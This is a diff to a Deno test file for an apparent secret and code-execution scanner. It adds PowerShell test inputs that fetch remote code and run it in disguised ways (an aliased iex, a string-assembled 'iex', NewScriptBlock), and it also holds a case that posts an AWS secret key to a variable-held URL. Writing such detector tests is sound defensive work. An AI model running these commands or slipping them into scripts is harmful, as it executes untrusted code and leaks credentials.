@@ -1599,12 +1599,17 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     `$s = irm ${url}\nStart-Process powershell -ArgumentList "-NoProfile", "-Command", $s\n`,
     `Invoke-WebRequest ${url} -OutFile setup.ps1\n& .\\setup.ps1\n`,
     `iwr ${url} -OutFile $env:TEMP\\i.ps1\npowershell -ExecutionPolicy Bypass -File $env:TEMP\\i.ps1\n`,
+    `$s = irm ${url}\nSet-Alias run iex\nrun $s\n`,
+    `$s = irm ${url}\n& ("ie" + "x") $s\n`,
+    `$s = irm ${url}\n$b = $ExecutionContext.InvokeCommand.NewScriptBlock($s)\n`,
   ], [
     "# $code = irm https://get.example.net/x; iex $code\n",
     "<#\n iex (irm https://get.example.net/x)\n#>\nWrite-Host done\n",
     '$code = "Write-Host hi"\nInvoke-Expression $code\n',
     `$data = Invoke-RestMethod ${url}\n$data | ConvertTo-Json\n`,
     `$r = irm ${url}\n($r).Count\n`,
+    "Set-Alias ll Get-ChildItem\nll\n",
+    '$tool = "git"\n& $tool status\n',
     `Invoke-WebRequest ${url} -OutFile data.json\nGet-Content data.json | ConvertFrom-Json\n`,
   ]);
   const ps = (text: string) => secretSeverities("scripts/s.ps1", text);
@@ -1625,6 +1630,12 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
     ),
     ["critical"],
   );
+  // A command name put together from pieces that makes a runner is said as such.
+  const assembled = ruleAt(
+    findings({ "scripts/n.ps1": '$n = "ie" + "x"\n& $n "Write-Host hi"\n' }),
+    "assembled-command",
+  );
+  assert.deepEqual(assembled.map((f) => [f.line, f.severity]), [[2, "critical"]]);
   // An address in a variable is that address: a key to another host critical, to its own info.
   const key = "$k = $env:AWS_SECRET_ACCESS_KEY\n";
   assert.deepEqual(ps(`$u = "${post}"\n${key}Invoke-RestMethod -Uri $u -Method Post -Body $k\n`), [
